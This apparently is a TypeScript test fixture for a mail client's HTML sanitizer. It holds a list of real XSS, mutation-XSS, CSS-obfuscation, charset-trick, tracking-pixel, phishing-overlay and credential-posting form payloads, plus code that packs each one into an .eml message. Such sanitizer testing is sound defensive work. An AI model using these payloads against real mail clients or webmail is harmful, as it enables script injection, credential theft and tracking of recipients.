/**
 * HTML of real attacks on mail programs and webmail. `SCRIPT` stands for the script, `REMOTE` for
 * the address of a server that counts visitors.
 */
export type Attack = {
  readonly name: string;
  readonly html: string;
  /** Number of pictures that the window must report as blocked. */
  readonly blocked?: number;
  /** Of the body part: bytes that only become markup in this charset. */
  readonly charset?: string;
};

const run = "SCRIPT";

export const attacks: readonly Attack[] = [
  {
    name: "script elements",
    html: `<script>${run}</script><SCRIPT SRC="REMOTE/a.js"></SCRIPT><script/x>${run}</script>Hello`,
  },
  {
    name: "event handlers",
    html: `<img src=x onerror="${run}"><body onload="${run}"><div onmouseover="${run}" style="width:900px;height:900px">x</div><details open ontoggle="${run}">d</details><input autofocus onfocus="${run}"><marquee onstart="${run}">m</marquee><video onloadstart="${run}" src=x></video>`,
  },
  {
    name: "handlers with strange separators",
    html: `<img/src=x/onerror=${run}><img src=x\u000Conerror=${run}><img src="x" title="a"onerror=${run}><a href=# onclick\n=\n"${run}">a</a><svg/onload=${run}>`,
  },
  {
    name: "svg",
    html: `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script><a xlink:href="javascript:${run}"><text y="20">t</text></a><use href="REMOTE/u.svg#x"/><image href="REMOTE/i.png"/><animate attributeName="href" values="javascript:${run}"/><set attributeName="onmouseover" to="${run}"/><foreignObject><iframe src="REMOTE/f"></iframe></foreignObject></svg>`,
  },
  {
    name: "style sheets that load",
    html: `<style>@import url("REMOTE/a.css"); @font-face{font-family:x;src:url(REMOTE/f.woff)} body{background:url(REMOTE/b.png);font-family:x}</style><link rel=stylesheet href="REMOTE/c.css"><link rel="preload prefetch dns-prefetch preconnect" as=image href="REMOTE/p.png">Hello`,
  },
  {
    name: "styles of an element",
    html: `<p style="background-image:url('REMOTE/1.png')">a</p><p style="list-style:url(REMOTE/2.png)">b</p><p style="width:expression(${run});behavior:url(REMOTE/x.htc);-moz-binding:url(REMOTE/x.xml#a)">c</p><p style="cursor:url(REMOTE/3.cur),auto;background:u\\72l(REMOTE/4.png)">d</p><td background="REMOTE/5.png">e</td>`,
  },
  {
    name: "a refresh to elsewhere",
    html: `<meta http-equiv="refresh" content="0;url=REMOTE/gone"><meta http-equiv=refresh content="0;javascript:${run}">Hello`,
  },
  {
    name: "a policy and a base of its own",
    html: `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><base href="REMOTE/"><base target="_top"><img src="rel.png"><a href="rel">link</a>`,
  },
  {
    name: "forms",
    html: `<form action="REMOTE/steal" id=f><input name=password type=password autofocus><button formaction="javascript:${run}">Sign in</button><input type=image src="REMOTE/i.png"><input type=submit></form><button form=f formaction="REMOTE/steal2">Go</button><isindex action="javascript:${run}" type=image>`,
  },
  {
    name: "links to scripts",
    html: `<a href="javascript:${run}">1</a><a href="JaVaScRiPt:${run}">2</a><a href="java\tscript:${run}">3</a><a href="java&#10;script:${run}">4</a><a href="&#x6A;avascript&colon;${run}">5</a><a href=" \u0001javascript:${run}">6</a><a href="vbscript:${run}">7</a><a href="javascript://%0A${run}">8</a>`,
  },
  {
    name: "links to data",
    html: `<a href="data:text/html,<script>${run}</script>">1</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" target=_top>2</a><a href="blob:REMOTE/1">3</a><a href="file:///etc/passwd">4</a><a href="app://mailpin/index.html" target=_top>5</a>`,
  },
  {
    name: "frames",
    html: `<iframe src="REMOTE/f"></iframe><iframe srcdoc="<script>parent.${run}</script>"></iframe><frameset><frame src="REMOTE/g"></frameset><iframe src="javascript:${run}"></iframe><portal src="REMOTE/p"></portal><fencedframe></fencedframe>`,
  },
  {
    name: "pictures by every way",
    html: `<img src="REMOTE/1.png"><img srcset="REMOTE/2.png 1x, REMOTE/3.png 2x"><picture><source srcset="REMOTE/4.png"><img src="//127.0.0.1/5.png"></picture><img src="REMOTE/px.gif" width=1 height=1><image src="REMOTE/6.png"><img lowsrc="REMOTE/7.png" dynsrc="REMOTE/8.png" longdesc="REMOTE/9">`,
    blocked: 5,
  },
  {
    name: "objects and media",
    html: `<object data="REMOTE/o.swf" type="application/x-shockwave-flash"><param name=movie value="REMOTE/m"></object><embed src="REMOTE/e"><applet code=A archive="REMOTE/a.jar"></applet><video poster="REMOTE/p.png" src="REMOTE/v.mp4" autoplay></video><audio src="REMOTE/a.mp3" autoplay></audio><track src="REMOTE/t"><object data="data:text/html,<script>${run}</script>"></object>`,
  },
  {
    name: "broken nesting",
    html: `<<script>${run}//<</script><img """><script>${run}</script>"><div><p><table><tr><td></p></div><script>${run}</script><a <b href="javascript:${run}">x</a></scr</script>ipt><scr<script>ipt>${run}</scr</script>ipt>`,
  },
  {
    name: "mutation by noscript, template and comments",
    html: `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><template><img src=x onerror=${run}></template><!--><img src=x onerror=${run}>--><!--!><img src=x onerror=${run}>--!><img src=x onerror=${run}><!-- --!><script>${run}</script> --><![CDATA[<img src=x onerror=${run}>]]><xmp><p title="</xmp><img src=x onerror=${run}>"></xmp><textarea><img title="</textarea><img src=x onerror=${run}>"></textarea><title><a id="</title><img src=x onerror=${run}>"></title>`,
  },
  {
    name: "mutation by other namespaces",
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></table></mtext></math><svg></p><style><a id="</style><img src=1 onerror=${run}>"></svg><math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>"></svg></math><form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}></form>`,
  },
  {
    name: "MathML links",
    html: `<math href="javascript:${run}"><maction actiontype="statusline#http://x" xlink:href="javascript:${run}">CLICK</maction></math><math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  },
  {
    name: "a cover over the window",
    html: `<div style="position:fixed;inset:0;z-index:2147483647;background:red">Session expired. <a href="REMOTE/login" target="_top">Sign in again</a></div><a href="REMOTE/p" ping="REMOTE/ping" target="_parent" download>link</a><a href="REMOTE/o" target="_blank" rel="opener">open</a>`,
  },
  {
    name: "styles that cover what is around",
    html: `<div style="margin-top:-400px;margin:-50em 0 0 -9999px">a</div><div style="transform:translateY(-300px);position:absolute;top:0">b</div><p style="line-height:0;height:0;font-size:900px">c</p><div style="width:100000px;height:99999px;padding:99999px;text-indent:-9999px;background:red">d</div><table width="99999999" height="99999999" border="999999" cellpadding="99999999"><td colspan="4294967295" rowspan="4294967295">e</table><p style="box-shadow:0 0 0 9999px red;outline:9999px solid red;border:9999px solid red">f</p><p style="position:sticky;inset:0;float:footnote;z-index:9">g</p>`,
  },
  {
    name: "styles that hide",
    html: `<p style="display:none">a</p><p style="visibility:hidden">b</p><p style="opacity:0">c</p><p style="font-size:0">d</p><p style="font:0/0 a">e</p><p style="color:transparent">f</p><p style="color:rgba(0,0,0,0)">g</p><p style="max-height:0;overflow:hidden">h</p><p hidden>i</p><p style="clip-path:inset(100%);clip:rect(0 0 0 0)">j</p><p style="text-indent:-9999px;white-space:nowrap">k</p><details><summary>more</summary>l</details><p style="DISPLAY:NONE!important">m</p>`,
  },
  {
    name: "styles in disguise",
    html: `<p style="background:\\75rl(REMOTE/1)">a</p><p style="background:u/**/rl(REMOTE/2)">b</p><p style="background:image-set('REMOTE/3' 1x, url(REMOTE/4) 2x)">c</p><p style="width:exp/**/ression(${run});-MOZ-BINDING:url(REMOTE/5);b\\65havior:url(REMOTE/6)">d</p><p style="po\\73ition:fixed;p/**/osition:fixed;POSITION:FIXED;;position:fixed !important">e</p><p style="color:red;/*" title="*/position:fixed">f</p><p style="font-family:'a;position:fixed;x:'; position:fixed">g</p><p style="x:(;position:fixed;);y:[;z-index:9;]">h</p><p style='font-family:"\\"};position:fixed"'>i</p><p style="color:var(--x);width:calc(1px*999999);content:attr(title)">j</p><p style="color:red}p{position:fixed">k</p><p style="@import url(REMOTE/7)">l</p>`,
  },
  {
    name: "links into the network",
    html: `<a href="file://127.0.0.1/share/a.exe">1</a><a href="\\\\127.0.0.1\\share\\a.exe">2</a><a href="//127.0.0.1/share">3</a><a href="smb://127.0.0.1/share">4</a><a href="C:\\Windows\\calc.exe">5</a><a href="..\\a.lnk">6</a><a href="offer.docx">7</a><a href="fi\tle:///c:/a">8</a><img src="\\\\127.0.0.1\\share\\a.png"><img src="file://127.0.0.1/a.png"><table background="\\\\127.0.0.1\\share\\b.png"><td style="background:url(\\\\127.0.0.1\\c.png)">9</table>`,
  },
  {
    name: "links to programs",
    html: `<a href="ms-msdt:/id PCWDiagnostic">1</a><a href="search-ms:query=a&crumb=location:\\\\127.0.0.1">2</a><a href="ms-word:ofe|u|REMOTE/a.doc">3</a><a href="tel:*%2306%23">4</a><a href="shell:startup">5</a><a href="view-source:REMOTE">6</a><a href="feed:javascript:${run}">7</a><a href="ftp://127.0.0.1/a">8</a><a href="http:127.0.0.1">9</a><a href="https:\\\\127.0.0.1">10</a>`,
  },
  {
    name: "names that hide ours",
    html: `<form name=mailpin><input name=on></form><a id=mailpin></a><a id=mailpin name=getSnapshot href="cid:x"></a><img name=document><form id=body><input name=style></form><iframe name=mailpin></iframe>`,
  },
  {
    name: "processing instructions and XML",
    html: `<?xml version="1.0"?><?xml-stylesheet href="REMOTE/x.xsl" type="text/xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "REMOTE/e">]><xml id=x><a><b>&lt;script&gt;${run}&lt;/script&gt;</b></a></xml><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>&e;`,
  },
  {
    name: "styles that break out",
    html: `<p style="color:red;}</style><script>${run}</script>">a</p><p style="font-family:'</style><img src=x onerror=${run}>'">b</p><font color="red;background:url(REMOTE/f.png)" face="x</style><script>${run}</script>">c</font>`,
  },
  {
    name: "UTF-7",
    html: `+ADw-script+AD4-${run}+ADw-/script+AD4-+ADw-img src+AD0-x onerror+AD0-${run}+AD4-Hello`,
    charset: "utf-7",
  },
  {
    name: "escapes of ISO-2022-JP",
    html: `<a title="\u001B$@"></a><img title="\u001B(B" src="x" alt="\u001B$B&quot; onerror=${run} \u001B(B">Hello`,
    charset: "iso-2022-jp",
  },
  {
    name: "popovers, dialogs and shadows",
    html: `<div popover id=p onbeforetoggle="${run}">p</div><button popovertarget=p>show</button><dialog open>d<form method=dialog><button>x</button></form></dialog><div><template shadowrootmode=open><style>@import "REMOTE/s.css"</style><script>${run}</script></template></div><x-y is="z" onclick="${run}" tabindex=0 contenteditable>e</x-y><a accesskey=x href="javascript:${run}" onclick="${run}">k</a>`,
  },
];

/** The HTML with a script that reports when it runs, and the address of the server. */
export const armed = ({ name, html }: Attack, remote: string): string =>
  `<p>This is ${name}</p>\r\n` +
  html
    .replaceAll("SCRIPT", "window.top.pwned=1,console.error('pwned'),alert(1)")
    .replaceAll("REMOTE", remote);

/** The attack as a mail. */
export function attackMail(attack: Attack, remote: string): { name: string; bytes: Buffer } {
  const { name, charset = "utf-8" } = attack;
  const header = [
    "From: Mallory <mallory@attack.example>",
    "To: Sam Seller <sam@seller.example>",
    `Subject: Attack: ${name}`,
    "Date: Mon, 2 Mar 2026 09:15:00 +0100",
    `Content-Type: text/html; charset=${charset}`,
  ];
  return {
    name: `${name}.eml`,
    bytes: Buffer.from([...header, "", armed(attack, remote)].join("\r\n"), "utf8"),
  };
}
